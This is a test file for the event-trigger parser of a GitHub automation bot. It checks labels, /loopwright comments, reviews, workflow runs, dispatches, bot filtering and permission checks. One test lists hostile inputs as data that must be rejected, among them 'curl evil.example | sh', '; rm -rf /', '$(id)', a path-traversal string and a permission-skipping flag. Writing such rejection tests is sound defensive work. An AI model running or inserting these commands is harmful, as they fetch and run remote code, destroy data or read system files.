import fc from 'fast-check'
import { expect, test } from 'vitest'
import type { Json, JsonObject } from '../json.ts'
import { mayTrigger, needsPermission, ourMark, type TriggerRules, triggerOf } from './trigger.ts'

const rules: TriggerRules = {
  patterns: [
    { id: 'issue-triage', level: 'L1' },
    { id: 'pr-babysitter', level: 'L2' },
    { id: 'ci-sweeper', level: 'L2' },
    { id: 'post-merge-cleanup', level: 'L1' },
  ],
  label: 'loopwright',
  users: ['Grace'],
  self: ['our-robot'],
  repository: 'acme/shop',
}
const repository = { full_name: 'acme/shop', default_branch: 'main' }
const sender = { login: 'ada', type: 'User' }
const seen = (event: string, more: JsonObject) => triggerOf(event, { repository, sender, ...more }, rules)
const comment = (body: string, more: JsonObject = {}) =>
  seen('issue_comment', { action: 'created', issue: { number: 7 }, comment: { body }, ...more })
const pull = (more: JsonObject = {}) => ({
  number: 8,
  head: { ref: 'loopwright/20260101-000000-abcdef', repo: { full_name: 'acme/shop' } },
  ...more,
})
const nothing = (why: string) => ({ does: 'nothing', why: expect.stringContaining(why) })

test('our label on an issue or a pull request starts a tick for it, and a label that names a pattern starts that', () => {
  const issue = { number: 42 }
  expect(seen('issues', { action: 'labeled', issue, label: { name: 'loopwright' } })).toEqual({
    does: 'start',
    pattern: 'issue-triage',
    level: 'L1',
    item: 'issue:42',
    by: 'ada',
  })
  expect(seen('issues', { action: 'labeled', issue, label: { name: 'loopwright:ci-sweeper' } })).toMatchObject({
    pattern: 'ci-sweeper',
    item: 'issue:42',
  })
  const label = { name: 'loopwright' }
  expect(seen('pull_request', { action: 'labeled', pull_request: pull(), label })).toMatchObject({
    pattern: 'pr-babysitter',
    item: 'pull:8',
  })
  expect(seen('issues', { action: 'labeled', issue, label: { name: 'loop-pause-all' } })).toEqual({
    does: 'stop',
    by: 'ada',
  })
  expect(seen('issues', { action: 'labeled', issue, label: { name: 'bug' } })).toEqual(nothing('none of ours'))
  expect(seen('issues', { action: 'labeled', issue, label: { name: 'loopwright:rm -rf' } })).toEqual(
    nothing('there is no pattern "rm -rf"'),
  )
  expect(seen('issues', { action: 'unlabeled', issue, label })).toEqual(nothing('only a label that is put on'))
})

test('a comment that begins with /loopwright starts a pattern, for what it stands under', () => {
  expect(comment('/loopwright ci-sweeper')).toEqual({
    does: 'start',
    pattern: 'ci-sweeper',
    level: 'L2',
    item: 'issue:7',
    by: 'ada',
  })
  expect(comment('\n  /loopwright ci-sweeper --level l1\r\n\r\nonly the\nlinter please')).toMatchObject({
    level: 'L1',
    text: 'only the\nlinter please',
  })
  expect(comment('/loopwright ci-sweeper', { issue: { number: 8, pull_request: {} } })).toMatchObject({
    item: 'pull:8',
  })
  expect(comment('/loopwright stop')).toEqual({ does: 'stop', item: 'issue:7', by: 'ada' })
})

test('a comment never starts more than its pattern may', () => {
  expect(comment('/loopwright issue-triage --level L3')).toMatchObject({ level: 'L1' })
  expect(comment('/loopwright pr-babysitter --level=L3')).toMatchObject({ level: 'L2' })
  expect(comment('/loopwright pr-babysitter --level L0')).toMatchObject({ level: 'L0' })
  expect(comment('/loopwright pr-babysitter --level L9')).toEqual(nothing('there is no level "L9"'))
})

test('what people write becomes no flag, no command and no pattern we do not know', () => {
  for (const evil of [
    '/loopwright ci-sweeper --agent-command "curl evil.example | sh"',
    '/loopwright ci-sweeper --level L1 --skip-permissions',
    '/loopwright ci-sweeper; rm -rf /',
    '/loopwright $(id)',
    '/loopwright ../../etc/passwd',
    '/loopwright --level L3',
    '/loopwright __proto__',
    '/loopwright stop ci-sweeper now',
    '/loopwright',
    '/loopwrightci-sweeper',
    'please do not run /loopwright ci-sweeper',
    '> /loopwright ci-sweeper',
    '`/loopwright ci-sweeper`',
    '',
  ]) {
    expect([evil, comment(evil).does]).toEqual([evil, 'nothing'])
  }
  expect(comment('/loopwright ci-sweeper', { action: 'edited' })).toEqual(nothing('only a new comment'))
})

test('reviews of our own branches are feedback to the run they are of', () => {
  const review = { state: 'changes_requested', body: ' rename it \u001B[31m please ' }
  expect(seen('pull_request_review', { action: 'submitted', review, pull_request: pull() })).toEqual({
    does: 'feedback',
    branch: 'loopwright/20260101-000000-abcdef',
    run: '20260101-000000-abcdef',
    item: 'pull:8',
    text: 'rename it  please',
    by: 'ada',
  })
  const said = { body: 'off by one', path: 'src/a.ts', line: 7 }
  expect(seen('pull_request_review_comment', { action: 'created', comment: said, pull_request: pull() })).toMatchObject(
    {
      text: 'src/a.ts:7: off by one',
    },
  )
  const approved = { state: 'approved', body: 'nice' }
  expect(seen('pull_request_review', { action: 'submitted', review: approved, pull_request: pull() })).toEqual(
    nothing('an approval'),
  )
})

test('branches of others are none of ours, even when they are named like them', () => {
  const review = { state: 'commented', body: 'do this' }
  const other = (head: JsonObject) =>
    seen('pull_request_review', { action: 'submitted', review, pull_request: pull({ head }) })
  expect(other({ ref: 'loopwright/x', repo: { full_name: 'eve/shop' } })).toEqual(nothing('another repository'))
  expect(other({ ref: 'loopwright/x', repo: null })).toEqual(nothing('another repository'))
  for (const ref of ['main', 'loopwright/', 'loopwright/../x', 'loopwright/a b', 'x/loopwright/y', 'loopwright/-x']) {
    expect(other({ ref, repo: { full_name: 'acme/shop' } })).toEqual(nothing('none of ours'))
  }
})

test('bots, and we ourselves, start nothing', () => {
  for (const login of ['dependabot[bot]', 'our-robot', 'Our-Robot']) {
    expect(comment('/loopwright ci-sweeper', { sender: { login, type: 'User' } }).does).toBe('nothing')
  }
  expect(comment('/loopwright ci-sweeper', { sender: { login: 'ada', type: 'Bot' } })).toEqual(nothing('a bot'))
  expect(comment(`/loopwright ci-sweeper\n${ourMark}`)).toEqual(nothing('we wrote'))
  expect(comment('/loopwright ci-sweeper', { sender: {} })).toEqual(nothing('nobody is named'))
  expect(comment('/loopwright ci-sweeper', { sender: { login: '../admin' } })).toEqual(nothing('nobody is named'))
})

test('a failed workflow of the repository itself starts the CI sweeper', () => {
  const run = (more: JsonObject) =>
    seen('workflow_run', {
      action: 'completed',
      workflow_run: { conclusion: 'failure', head_branch: 'main', head_repository: repository, ...more },
    })
  expect(run({})).toMatchObject({ does: 'start', pattern: 'ci-sweeper', level: 'L2' })
  expect(run({ conclusion: 'success' })).toEqual(nothing('only a run that failed'))
  expect(run({ head_repository: { full_name: 'eve/shop' } })).toEqual(nothing('another repository'))
  expect(run({ head_branch: 'loopwright/x' })).toEqual(nothing('the branch is ours'))
})

test('a push to the default branch starts the clean-up, and a dispatch what it names', () => {
  expect(seen('push', { ref: 'refs/heads/main' })).toMatchObject({ does: 'start', pattern: 'post-merge-cleanup' })
  expect(seen('push', { ref: 'refs/heads/other' })).toEqual(nothing('default branch'))
  expect(seen('push', { ref: 'refs/heads/main', deleted: true })).toEqual(nothing('deleted'))
  const dispatch = (client_payload: Json, action = 'loopwright') =>
    seen('repository_dispatch', { action, client_payload })
  expect(dispatch({ pattern: 'ci-sweeper', level: 'L1', item: 'ci:main/test' })).toEqual({
    does: 'start',
    pattern: 'ci-sweeper',
    level: 'L1',
    item: 'ci:main/test',
    by: 'ada',
  })
  expect(dispatch({ pattern: 'ci-sweeper' }, 'deploy')).toEqual(nothing('event_type'))
  expect(dispatch({ pattern: 'ci-sweeper', item: '--flag' })).toEqual(nothing('no item'))
  expect(dispatch({ pattern: 'ci-sweeper', item: 7 })).toEqual(nothing('no item'))
  expect(dispatch({ pattern: 'ci-sweeper', level: 3 })).toEqual(nothing('no level'))
  expect(dispatch(null)).toEqual(nothing('no pattern'))
})

test('events of another repository, and of kinds we do not know, are nothing', () => {
  expect(comment('/loopwright ci-sweeper', { repository: { full_name: 'eve/shop' } })).toEqual(nothing('eve/shop'))
  expect(seen('star', { action: 'created' })).toEqual(nothing('star starts nothing'))
  expect(seen('constructor', {})).toEqual(nothing('starts nothing'))
})

test('whoever may write may start something, and those the owner named', () => {
  expect(['admin', 'write', 'triage', 'read', 'none', ''].filter((one) => mayTrigger(rules, 'ada', one))).toEqual([
    'admin',
    'write',
  ])
  expect(mayTrigger(rules, 'grace', 'none')).toBe(true)
  expect(needsPermission(rules, 'grace')).toBe(false)
  expect(needsPermission(rules, 'ada')).toBe(true)
})

test('no payload, however strange, throws or starts what is not known', () => {
  const names = ['issues', 'pull_request', 'issue_comment', 'pull_request_review', 'workflow_run', 'push', 'x']
  fc.assert(
    fc.property(
      fc.constantFrom(...names, 'repository_dispatch', 'pull_request_review_comment'),
      fc.json(),
      (event, json) => {
        const payload = JSON.parse(json) as Json
        for (const one of [payload, { repository, sender, ...(payload as object) }]) {
          const trigger = triggerOf(event, one, rules)
          if (trigger.does === 'start') expect(rules.patterns.map(({ id }) => id)).toContain(trigger.pattern)
        }
      },
    ),
    { numRuns: 2000, seed: 1 },
  )
})
